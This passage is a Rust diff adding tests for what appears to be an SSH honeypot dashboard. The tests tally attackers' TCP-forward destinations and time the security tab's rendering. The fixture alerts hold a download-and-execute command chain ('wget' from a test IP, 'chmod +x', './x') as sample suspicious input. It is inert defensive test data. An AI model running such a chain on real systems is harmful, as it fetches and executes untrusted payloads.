+        assert_eq!(correlations, [("203.0.113.7".to_string(), "N/A".to_string(), 2, 0)]);
+    }
+
+    #[test]
+    fn forward_destinations_count_requests_and_requesting_ips() {
+        let mut store = StoreSnapshot::new(&Config::default()).unwrap();
+        let forwards = [
+            ("203.0.113.50", &[("smtp.gmail.com", 25), ("smtp.gmail.com", 25), ("2001:db8::25", 587)][..]),
+            ("198.51.100.61", &[("ip-api.com", 80), ("smtp.gmail.com", 25)][..]),
+            ("192.0.2.8", &[("ip-api.com", 80)][..]),
+        ];
+        for (i, (ip, requests)) in forwards.iter().enumerate() {
+            let mut forwarding = session(&format!("s{}", i), ip, at(i as i64));
+            forwarding.forwards = requests.iter()
+                .map(|(host, port)| TcpForward { dst_host: host.to_string(), dst_port: *port, timestamp: at(i as i64) })
+                .collect();
+            apply(&mut store, StoreCommand::UpsertSession(Box::new(forwarding)));
+        }
+
+        let ips = |ips: &[&str]| ips.iter().map(|ip| ip.to_string()).collect::<Vec<_>>();
+        assert_eq!(forward_destinations(&store), [
+            ("smtp.gmail.com:25".to_string(), 25, 3, ips(&["198.51.100.61", "203.0.113.50"])),
+            ("ip-api.com:80".to_string(), 80, 2, ips(&["192.0.2.8", "198.51.100.61"])),
+            ("[2001:db8::25]:587".to_string(), 587, 1, ips(&["203.0.113.50"])),
+        ]);
+    }
+
+    /// Run with `cargo test --release -- --ignored --nocapture security_tab_with_5k`
+    #[tokio::test]
+    #[ignore]
+    async fn security_tab_with_5k_sessions_of_alerts() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut app = testing::app(dir.path(), 5_000).await;
+        let sessions = (0..5_000)
+            .map(|i| {
+                let mut risky = session(&format!("s{}", i), &format!("198.51.{}.{}", i / 250, i % 250), at(i));
+                risky.malicious_score = (i % 100) as u8;
+                risky
+            })
+            .collect();
+        testing::fill(&app, sessions, Vec::new()).await;
+        app.selected_tab = 1;
+        let without_alerts = testing::frame_time(&app, 50);
+
+        // A noisy session's worth of alerts for each one, most of them acknowledged
+        {
+            let mut history = app.alert_history.lock();
+            for i in 0..5_000 {
+                for command in ["wget http://198.51.100.9/x", "chmod +x x", "./x"] {
+                    history.push(Alert {
+                        alert_type: AlertType::SuspiciousCommand {
+                            session_id: format!("s{}", i),
+                            command: command.to_string(),
+                            severity: None,
+                            score: None,
+                        },
+                        timestamp: Utc::now(),
+                        acknowledged: i % 4 != 0,
+                        message: format!("Suspicious command: {}", command),
+                        severity: Severity::Medium,
+                        techniques: Vec::new(),
+                        count: 1,
+                        last_seen: None,
+                    });
+                }
+            }
+        }
+        let with_alerts = testing::frame_time(&app, 50);
+
+        println!("security tab, 5000 sessions: {:?} per frame, {:?} with 15000 alerts", without_alerts, with_alerts);
+        assert!(with_alerts < Duration::from_millis(50), "a frame should take well under 50ms");
+        assert!(with_alerts < without_alerts * 2 + Duration::from_millis(1), "the alerts panel should cost little next to the rest");
+    }
+}